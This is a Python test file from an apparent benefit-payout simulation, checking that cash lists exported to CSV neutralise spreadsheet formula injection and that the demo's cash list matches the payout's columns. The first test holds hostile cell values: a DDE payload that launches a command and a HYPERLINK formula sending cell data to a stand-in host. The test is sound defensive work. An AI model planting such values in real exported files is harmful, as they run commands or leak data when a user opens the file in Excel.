"""The payout's files as people open them: in Excel, where a cell that starts like a formula
would be evaluated."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from banks.cash_list import CASH_LIST, LIST_COLUMNS, Heading, list_row, write_list
from banks.payment_table import read_payment_table
from banks.payout import Outcome, PayoutResult, PayoutStatus
from banks.population import Mix, generate_population
from switchlab.demo import _report


def test_a_name_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    hostile = {"citizen_id": "001190012345", "full_name": '=HYPERLINK("http://x/?"&A1,"bấm")',
               "amount_vnd": 1_500_000, "programme": "+cmd|' /C calc'!A0",
               "commune": "@SUM(1+1)", "address": "-2+3"}
    rows = [list_row(row) for row in PayoutResult([], 0.0).cash_list_rows([hostile])]
    write_list(tmp_path, "cash", rows, CASH_LIST, Heading("KBNN", date(2026, 12, 7)), ",")
    with (tmp_path / "cash.csv").open(encoding="utf-8-sig", newline="") as file:
        row = next(csv.DictReader(file))
    assert row["full_name"] == "'" + hostile["full_name"]
    assert (row["programme"], row["commune"], row["address"]) == (
        "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3")
    assert (row["citizen_id"], row["amount_vnd"]) == ("001190012345", "1500000")


def test_issue_newuser3_finding6_the_demo_s_cash_list_is_the_payout_s(tmp_path: Path) -> None:
    """The demo's cash_list.csv had other columns than `switchlab payout`'s and every
    period, commune and address empty: both are now written by banks/cash_list.py, from a
    payment table that carries the period and each person's place."""
    population = generate_population(400, 2026, Mix(no_account=0.1, closed=0.05))
    population.write_payment_table(tmp_path / "table.csv", places=True)
    table = read_payment_table(tmp_path / "table.csv")
    outcomes = [Outcome(p, PayoutStatus.REJECTED, "AC04") if n % 7 == 0 else
                Outcome(p, PayoutStatus.PAID) for n, p in enumerate(table)]
    result = PayoutResult(outcomes, 1.0)
    cycle = {"cycle_id": 1, "transfers": 0, "transfers_vnd": 0, "net_vnd": {}}
    assert _report(tmp_path, result, cycle, [], population) == 0
    with (tmp_path / "cash_list.csv").open(encoding="utf-8-sig", newline="") as file:
        reader = csv.DictReader(file)
        rows = list(reader)
    assert tuple(reader.fieldnames or ()) == LIST_COLUMNS  # the payout's columns
    assert {row["status"] for row in rows} == {"no_account", "rejected"}
    assert all(row[column] for row in rows for column in (
        "period", "province", "district", "commune", "address", "programme_vi", "reason_vi"))
    assert {row["period"] for row in rows} == {"2026-11"}
    assert (tmp_path / "cash_list.xlsx").exists() and (tmp_path / "deceased.html").exists()
